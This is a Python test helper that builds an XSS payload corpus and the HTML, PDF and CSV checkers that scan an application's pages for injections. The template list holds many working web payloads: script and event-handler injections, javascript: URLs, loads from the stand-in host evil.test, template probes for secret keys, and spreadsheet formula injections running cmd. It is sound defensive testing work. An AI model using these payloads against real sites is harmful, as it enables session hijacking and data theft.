"""The XSS corpus and the checks that read pages for it (tests/test_xss_corpus.py).

A payload carries a marker naming its field and itself (`zz07q12`), so that a page showing
user text can be read for injections (a tag, an attribute, a script or a URL made from user
text) and for the words themselves, kept literally.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
from dataclasses import dataclass, field
from html.parser import HTMLParser

from tests.conftest import service_unavailable

# {m} is the marker. Each stays under ~80 characters so that short fields hold one or more.
TEMPLATES = [
    '<script>alert("{m}")</script>',
    "<ScRiPt src=//evil.test/{m}.js></ScRiPt>",
    '"><script>alert(`{m}`)</script>',
    "'><img src=x onerror=alert('{m}')>",
    '<img src="x" onerror="alert(1)" alt="{m}">',
    '<img src=x:alert(alt) onerror=eval(src) alt="{m}">',
    '<svg onload=alert("{m}")>',
    '<svg><script>alert("{m}")</script></svg>',
    '<svg><animate onbegin=alert("{m}") attributeName=x dur=1s>',
    '<svg><a xlink:href="javascript:alert(1)"><text>{m}</text></a></svg>',
    '<body onload=alert("{m}")>',
    "<iframe src=\"javascript:alert('{m}')\"></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>">{m}</iframe>',
    "<a href=\"javascript:alert('{m}')\">click {m}</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">{m}</a>",
    "javascript:alert('{m}')",
    "JaVaScRiPt:/*{m}*/alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg== {m}",
    '<math><mtext><table><mglyph><style><img src=x onerror=alert("{m}")>',
    '<details open ontoggle=alert("{m}")>',
    '<input autofocus onfocus=alert("{m}")>',
    '<video><source onerror="alert(\'{m}\')"></video>',
    '<audio src=x onerror=alert("{m}")>',
    '<div style="background:url(javascript:alert(1))">{m}</div>',
    "<div style=\"width: expression(alert('{m}'))\">",
    '<style>@import "//evil.test/{m}.css";</style>',
    "<link rel=stylesheet href=//evil.test/{m}.css>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('{m}')\">",
    '<object data="data:text/html,<script>alert(1)</script>">{m}</object>',
    "<embed src=\"javascript:alert('{m}')\">",
    '<base href="//evil.test/{m}/">',
    "<form action=\"javascript:alert('{m}')\"><button>{m}</button></form>",
    "<!--{m}--><script>alert(1)</script>",
    '</textarea><script>alert("{m}")</script>',
    '</title><script>alert("{m}")</script>',
    '</script><script>alert("{m}")</script>',
    "\"onmouseover=\"alert('{m}')\"",
    "' autofocus onfocus='alert(\"{m}\")",
    '<scr<script>ipt>alert("{m}")</scr</script>ipt>',
    '%3Cscript%3Ealert("{m}")%3C/script%3E',
    '&lt;script&gt;alert("{m}")&lt;/script&gt;',
    "<x-{m} onclick=alert(1)>tag</x-{m}>",
    "{{7*7}} {{ request.user.email }} {m}",
    "{% debug %} {% now 'Y' %} {m}",
    "{{ settings.SECRET_KEY }}{% csrf_token %} {m}",
    "${7*7} #{7*7} <%= 7*7 %> {m}",
    "[click {m}](javascript:alert(1))",
    '![{m}](x" onerror="alert(1))',
    '=HYPERLINK("http://evil.test/{m}","open")',
    "+cmd|' /C calc'!A0 {m}",
    "-2+3+cmd|' /C calc'!A0 {m}",
    "@SUM(1+1)*cmd|' /C calc'!A0 {m}",
    "//evil.test/{m}",
    # Last: a right-to-left override reverses what follows it in its paragraph.
    "\u202e<script>alert('{m}')</script>",
]
assert len(TEMPLATES) >= 40
FIRST_FORMULA = next(i for i, t in enumerate(TEMPLATES) if t.startswith("=HYPERLINK"))
MARKER = re.compile(r"zz\d\dq\d\d")


def payload(field_no: int, i: int) -> str:
    return TEMPLATES[i].replace("{m}", f"zz{field_no:02d}q{i:02d}")


@dataclass
class Field:
    """One free-text field: which payloads were written into it."""

    name: str
    no: int
    written: set[int] = field(default_factory=set)

    def all(self) -> str:
        """Every payload, one a line (for text fields without a short limit)."""
        self.written |= set(range(len(TEMPLATES)))
        return "\n".join(payload(self.no, i) for i in range(len(TEMPLATES)))

    def chunks(self, limit: int) -> list[str]:
        """Every payload, packed into as few values of at most `limit` characters as fit."""
        out: list[str] = []
        for i in range(len(TEMPLATES)):
            p = payload(self.no, i)
            if out and len(out[-1]) + 1 + len(p) <= limit:
                out[-1] += " " + p
            else:
                out.append(p)
        self.written |= set(range(len(TEMPLATES)))
        return out

    def first(self, limit: int, start: int = 0) -> str:
        """Only the payloads that fit in one value (a field a person has once), from the
        `start`th on."""
        value = ""
        for n in range(len(TEMPLATES)):
            i = (start + n) % len(TEMPLATES)
            p = payload(self.no, i)
            if len(value) + len(p) + 1 > limit:
                break
            value = f"{value} {p}".strip()
            self.written.add(i)
        return value


class Fields:
    def __init__(self) -> None:
        self.by_name: dict[str, Field] = {}

    def __getitem__(self, name: str) -> Field:
        if name not in self.by_name:
            self.by_name[name] = Field(name, len(self.by_name))
        return self.by_name[name]


# --- reading pages ---------------------------------------------------------------------------

URL_ATTRS = {"href", "src", "action", "formaction", "data", "xlink:href", "poster", "background",
             "srcdoc", "codebase", "cite", "longdesc", "ping", "lowsrc"}
TEXT_ATTRS = {"value", "title", "aria-label", "alt", "placeholder", "content", "label"}
BAD_SCHEMES = ("javascript:", "vbscript:", "data:text", "data:image/svg")


class Inspector(HTMLParser):
    """Collects the injections a page carries, and the text a person reads on it."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.text: list[str] = []
        self._raw_text: str | None = None  # inside a script or style

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if MARKER.search(tag):
            self.problems.append(f"a tag from user text: <{tag}>")
        for name, value in attrs:
            value = value or ""
            compact = re.sub(r"[\x00-\x20]", "", value).lower()
            if MARKER.search(name):
                self.problems.append(f"an attribute from user text: <{tag} {name}>")
            if name.startswith("on"):
                self.problems.append(f"an event handler: <{tag} {name}={value[:60]!r}>")
            if name in URL_ATTRS and compact.startswith(BAD_SCHEMES):
                self.problems.append(f"a script URL: <{tag} {name}={value[:60]!r}>")
            if MARKER.search(value):
                if name in TEXT_ATTRS or name.startswith("data-") or name.startswith("aria-"):
                    self.text.append(value)
                elif name in URL_ATTRS and value.startswith(("/", "?", "#")) and not value.startswith("//"):
                    pass  # a link to this site carrying the words in its query: escaped
                else:
                    self.problems.append(f"user text in <{tag} {name}={value[:60]!r}>")
        if tag in ("script", "style"):
            kind = dict(attrs).get("type") or ""
            self._raw_text = "" if "json" not in kind else None

    def handle_endtag(self, tag: str) -> None:
        if tag in ("script", "style"):
            if self._raw_text is not None and MARKER.search(self._raw_text):
                self.problems.append(f"user text inside <{tag}>: {self._raw_text[:80]!r}")
            self._raw_text = None

    def handle_data(self, data: str) -> None:
        if self._raw_text is not None:
            self._raw_text += data
        self.text.append(data)

    def handle_comment(self, data: str) -> None:
        if MARKER.search(data):
            self.problems.append(f"user text became a comment: {data[:60]!r}")


def inspect_html(html: str, corpus: list[str]) -> tuple[list[str], str]:
    """(problems, the page's readable text) for one HTML document."""
    parser = Inspector()
    parser.feed(html)
    parser.close()
    problems = list(parser.problems)
    for p in corpus:
        if ("<" in p or '"' in p) and p in html:
            problems.append(f"unescaped in the source: {p[:70]!r}")
    return problems, "\n".join(parser.text)


def pdf_text(pdf: bytes) -> str:
    if not shutil.which("pdftotext"):
        service_unavailable("pdftotext (poppler-utils) is not installed")
    out = subprocess.run(["pdftotext", "-", "-"], input=pdf, capture_output=True, check=True)
    return out.stdout.decode()


# The right-to-left override payload makes the PDF draw `<` in its mirrored run with the `>`
# glyph, and the PDF's glyph-to-text map then reads every `>` of the document back as `<`
# (and so on for the other mirrored pairs): pdftotext's answer is compared with the pairs
# folded together, and without hyphens (it reads "<!--" back as "<!-"). The overridden
# payload itself comes back in visual order: its marker, reversed, is looked for. The pages and the
# PDF's HTML source are checked character for character.
MIRRORED = str.maketrans({"<": "‹", ">": "‹", "(": "⁽", ")": "⁽", "[": "⁅", "]": "⁅",
                          "{": "⦃", "}": "⦃"})


def squeeze(text: str) -> str:
    """The text without line breaks and spaces (a PDF wraps lines) and mirrored pairs folded."""
    return re.sub(r"[\s-]+", "", text).translate(MIRRORED)


FORMULA = re.compile(r"^[=+\-@\t\r]")
NUMBER = re.compile(r"^[+-]?\d+(\.\d+)?%?$")


def csv_problems(body: str) -> list[str]:
    return [f"formula cell {cell[:60]!r}" for row in csv.reader(io.StringIO(body)) for cell in row
            if FORMULA.match(cell) and not NUMBER.match(cell)]


# --- filling forms as a browser would ----------------------------------------------------------


class FormReader(HTMLParser):
    """Every <form> of a page with what a browser would send untouched: inputs' values
    (checked boxes and radios only), each select's selected (else first) option, textareas'
    text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.forms: list[dict] = []
        self._form: dict | None = None
        self._select: str | None = None
        self._textarea: str | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        a = {k: v or "" for k, v in attrs}
        if tag == "form":
            self._form = {"action": a.get("action", ""), "method": a.get("method", "get").lower(),
                          "data": {}}
            self.forms.append(self._form)
            return
        if self._form is None:
            return
        data, name = self._form["data"], a.get("name", "")
        if tag == "input" and name and a.get("type") not in ("submit", "button", "file", "image"):
            if a.get("type") in ("checkbox", "radio") and "checked" not in a:
                data.setdefault(name, None)  # named, so the field is found; not sent
            else:
                data[name] = a.get("value", "on" if a.get("type") == "checkbox" else "")
        elif tag == "select" and name:
            self._select = name
            data.setdefault(name, None)
        elif tag == "option" and self._select:
            if data.get(self._select) is None or "selected" in a:
                data[self._select] = a.get("value", "")
        elif tag == "textarea" and name:
            self._textarea = name
            data[name] = ""

    def handle_data(self, text: str) -> None:
        if self._form is not None and self._textarea:
            self._form["data"][self._textarea] += text

    def handle_endtag(self, tag: str) -> None:
        if tag == "form":
            self._form = None
        elif tag == "select":
            self._select = None
        elif tag == "textarea":
            self._textarea = None


def form_with(html: str, field_name: str, must_have: tuple[str, ...] = ()) -> dict:
    """The first POST form of `html` holding `field_name` (and `must_have`)."""
    reader = FormReader()
    reader.feed(html)
    for form in reader.forms:
        names = form["data"]
        if form["method"] == "post" and field_name in names and all(n in names for n in must_have):
            return form
    raise AssertionError(f"no form with {field_name!r} {must_have} on the page")
